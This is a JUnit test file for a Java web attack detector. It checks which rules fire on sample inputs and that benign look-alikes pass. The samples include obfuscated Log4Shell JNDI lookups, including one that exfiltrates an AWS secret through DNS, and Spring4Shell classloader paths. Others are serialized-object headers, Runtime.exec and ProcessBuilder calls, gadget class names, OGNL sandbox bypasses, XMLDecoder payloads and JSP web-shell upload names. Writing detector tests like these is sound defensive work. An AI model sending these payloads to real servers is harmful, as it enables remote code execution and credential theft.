package dev.bulwark.core.internal.code.java;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

class JavaAttackDetectorTest {

    private final JavaAttackDetector detector = new JavaAttackDetector();

    @Test
    void detectsPlainJndiLookup() {
        assertThat(Scans.value(detector, "${jndi:ldap://203.0.113.9:1389/a}")).contains("JAVA-JNDI-LOOKUP");
    }

    @Test
    void detectsJndiLookupInsideUserAgent() {
        assertThat(Scans.header(detector, "User-Agent", "curl/8.0 ${jndi:dns://x.example/q}"))
                .contains("JAVA-JNDI-LOOKUP");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "${${lower:J}${lower:N}di:ldap://h.example/x}",
        "${${upper:j}ndi:rmi://h.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/x}",
        "${${env:UNSET_VAR:-j}ndi:ldap://h.example/x}",
        "${${date:'j'}ndi:ldap://h.example/x}",
        "${jNdI:ldap://h.example/x}",
    })
    void detectsJndiLookupBuiltFromNestedLookups(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-JNDI-LOOKUP");
    }

    @Test
    void detectsJndiLookupProducedByResolvingADefault() {
        assertThat(Scans.value(detector, "$${sys:nope:-${sys:nope:-$}{jndi:ldap://h.example/x}}}"))
                .contains("JAVA-JNDI-LOOKUP");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$&lbrace;jndi:ldap://h.example/x}", "&#36;{jndi:ldap://h.example/x}",
        "$\\u007Bjndi:ldap://h.example/x}", "%24%7Bjndi:ldap://h.example/x%7D", "$&lcub;j&#110;di:ldap://h/x}"})
    void detectsJndiLookupHiddenBehindEscapes(String value) {
        assertThat(Scans.json(detector, value)).contains("JAVA-JNDI-LOOKUP");
    }

    @Test
    void detectsTruncatedJndiLookup() {
        assertThat(Scans.value(detector, "${jndi:ldap://h.example/x")).contains("JAVA-JNDI-LOOKUP");
    }

    @Test
    void detectsEnvironmentLookupUsedForExfiltration() {
        assertThat(Scans.value(detector, "x${env:AWS_SECRET_ACCESS_KEY}.h.example"))
                .containsExactly("JAVA-LOG4J-LOOKUP");
    }

    @Test
    void keepsEnvironmentLookupOutOfBasicLevel() {
        assertThat(Scans.value(detector, "${sys:user.home}", Level.BASIC)).isEmpty();
    }

    @Test
    void ignoresPlaceholderWithoutLookupPrefix() {
        assertThat(Scans.value(detector, "Dear ${firstName}, your total is ${5}")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "class.classLoader.resources.dirContext.docBase", "Class.Module.ClassLoader.DefaultAssertionStatus",
        "class['classLoader'].URLs[0]", "class[module][classLoader]"})
    void detectsClassLoaderPathInParameterName(String name) {
        assertThat(Scans.name(detector, name)).contains("JAVA-CLASSLOADER-ACCESS");
    }

    @Test
    void ignoresWordClassloaderOutsideAPropertyPath() {
        assertThat(Scans.value(detector, "what is a classloader leak")).isEmpty();
    }

    @Test
    void detectsBase64SerializedObjectAtValueStart() {
        assertThat(Scans.value(detector, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="))
                .contains("JAVA-SERIALIZED-OBJECT");
    }

    @Test
    void detectsHexSerializedObject() {
        assertThat(Scans.value(detector, "ACED00057372001A6A6176612E7574696C")).contains("JAVA-SERIALIZED-OBJECT");
    }

    @Test
    void detectsRawSerializationHeader() {
        assertThat(Scans.value(detector, "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap"))
                .contains("JAVA-SERIALIZED-OBJECT");
    }

    @Test
    void detectsMisalignedBase64HeaderInsideValue() {
        assertThat(Scans.value(detector, "data=xKztAAUAAAA")).contains("JAVA-SERIALIZED-EMBEDDED");
    }

    @Test
    void reportsGzipBase64OnlyAtStrictLevel() {
        String value = "H4sIAAAAAAAA/6tWKkktLlGyUkpKVapVAgBkVdiHEAAAAA==";
        assertThat(Scans.value(detector, value)).isEmpty();
        assertThat(Scans.value(detector, value, Level.STRICT)).contains("JAVA-GZIP-BASE64");
    }

    @ParameterizedTest
    @ValueSource(strings = {"java.lang.Runtime.getRuntime().exec(\"id\")", "Runtime.getRuntime ( ).exec('id')",
        "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()", "x=getRuntime/**/()"})
    void detectsRuntimeExecution(String value) {
        assertThat(Scans.value(detector, value, Level.BASIC)).contains("JAVA-RUNTIME-EXEC");
    }

    @ParameterizedTest
    @ValueSource(strings = {"''.getClass().forName('java.lang.Runtime')", "c.getDeclaredMethod(\"exec\", String.class)",
        "m.setAccessible(true)", "new ScriptEngineManager().getEngineByName(\"nashorn\")"})
    void detectsReflectiveCallOnReceiver(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-REFLECTION-CALL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"java.lang.Runtime", "java.lang.ProcessBuilder", "javax.naming.InitialContext",
        "java.Runtime", "java.evil.runtime", "new InitialContext().lookup(x)"})
    void detectsDangerousClassName(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-DANGEROUS-CLASS");
    }

    @ParameterizedTest
    @ValueSource(strings = {"org.apache.commons.collections.functors.InvokerTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "runtime.clonetransformer",
        "ProcessBuilder.evil.whileclosure", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
        "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{}]"})
    void detectsGadgetClassName(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-GADGET-CLASS");
    }

    @Test
    void ignoresLookalikeWordInDottedHostName() {
        assertThat(Scans.value(detector, "bank.forclosure.example")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"java.io.File", "java.lang.String", "org.apache.commons", "com.sun.org.apache"})
    void detectsSensitiveClassNameAsWholeValue(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-CLASS-NAME-VALUE");
    }

    @Test
    void detectsSensitiveClassNameAsFieldOfRawBody() {
        assertThat(Scans.value(detector, "type=java.io.FileOutputStream")).contains("JAVA-CLASS-NAME-VALUE");
    }

    @Test
    void ignoresOrdinaryClassNameInProse() {
        assertThat(Scans.value(detector, "How do I convert java.lang.String to int in Java 17?")).isEmpty();
    }

    @Test
    void ignoresStackTraceLine() {
        assertThat(Scans.value(detector,
                "Exception in thread \"main\" java.lang.IllegalStateException: boom at com.example.App.main(App.java:12)"))
                .isEmpty();
    }

    @Test
    void ignoresLoggerNameInPathSegment() {
        assertThat(Scans.pathSegment(detector, "org.springframework.web")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"java.io", "java.net", "java.com", "sun.com"})
    void ignoresDomainNamesThatLookLikePackages(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @Test
    void detectsOgnlMemberAccessBypass() {
        assertThat(Scans.value(detector, "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}", Level.BASIC))
                .contains("JAVA-OGNL-SANDBOX-BYPASS");
    }

    @Test
    void detectsOgnlStaticCallOfRuntime() {
        assertThat(Scans.value(detector, "@java.lang.Runtime@getRuntime().exec('id')", Level.BASIC))
                .contains("JAVA-OGNL-SANDBOX-BYPASS");
    }

    @ParameterizedTest
    @ValueSource(strings = {"%{(#a='x').(#b=#a)}", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "(#cmd='id').(#p=new java.lang.String('x'))", "%{@java.lang.Math@max(1,2)}"})
    void detectsOgnlExpression(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-OGNL-EXPRESSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"#context is everything", "mail me @ john@example.com", "(#1 priority)", "Save 20% {today}"})
    void ignoresHashtagsAndEmail(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @Test
    void detectsXmlDecoderDocument() {
        assertThat(Scans.value(detector,
                "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.util.ArrayList\"/></java>"))
                .contains("JAVA-XML-OBJECT-GRAPH");
    }

    @Test
    void detectsXStreamDynamicProxy() {
        assertThat(Scans.value(detector, "<map><entry><dynamic-proxy><interface>x.Y</interface></dynamic-proxy></entry></map>"))
                .contains("JAVA-XML-OBJECT-GRAPH");
    }

    @Test
    void ignoresHtmlObjectWithCssClass() {
        assertThat(Scans.value(detector, "<object class=\"video\" data=\"movie.mp4\"></object>")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"cnVudGltZQ", "HByb2Nlc3NidWlsZGVy", "aW52b2tlcnRyYW5zZm9ybWVy", "TGphdmEvbGFuZy9SdW50aW1lOw=="})
    void detectsBase64FragmentOfGadgetOrCommandClass(String value) {
        assertThat(Scans.value(detector, value)).contains("JAVA-ENCODED-KEYWORD");
    }

    @Test
    void ignoresBase64OfConfigurationNamingARuntime() {
        // {"runtime":"nodejs18.x","memory":128}
        assertThat(Scans.value(detector, "eyJydW50aW1lIjoibm9kZWpzMTgueCIsIm1lbW9yeSI6MTI4fQ==")).isEmpty();
    }

    @Test
    void ignoresBase64OfOrdinaryText() {
        assertThat(Scans.value(detector, "aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ==")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"shell.jsp", "shell.JSPX", "a.jsp.", "b.jsp  ", "c. jsp", "dir/up.jspf"})
    void detectsJspUpload(String fileName) {
        assertThat(Scans.fileName(detector, fileName)).contains("JAVA-JSP-UPLOAD");
    }

    @Test
    void detectsJspUploadNamedInHeader() {
        assertThat(Scans.header(detector, "X-File-Name", "cmd.jsp")).contains("JAVA-JSP-UPLOAD");
    }

    @Test
    void ignoresJspNameOutsideUploads() {
        assertThat(Scans.value(detector, "index.jsp")).isEmpty();
    }

    @ParameterizedTest
    @FieldSource("dev.bulwark.core.internal.rules.Scans#ORDINARY_VALUES")
    void ignoresOrdinaryValue(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"${${${", "${jndi:", "$${", "'((((", "<<<<", ";;;;", "rO0A", "a.b.", "@a.b@", "%{(#", "\u00ac\u0100"})
    void finishesQuicklyOnOneMebibyteOfRepetition(String unit) {
        String value = Scans.mebibyteOf(unit);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @Test
    void finishesQuicklyOnOneMebibyteOfBase64() {
        String value = Scans.mebibyteOf("cnVudGlt");
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @Test
    void listsEveryRuleItReports() {
        assertThat(detector.rules()).extracting(r -> r.key()).containsOnly("JAVA");
        assertThat(detector.rules()).extracting(r -> r.id()).doesNotHaveDuplicates();
    }
}
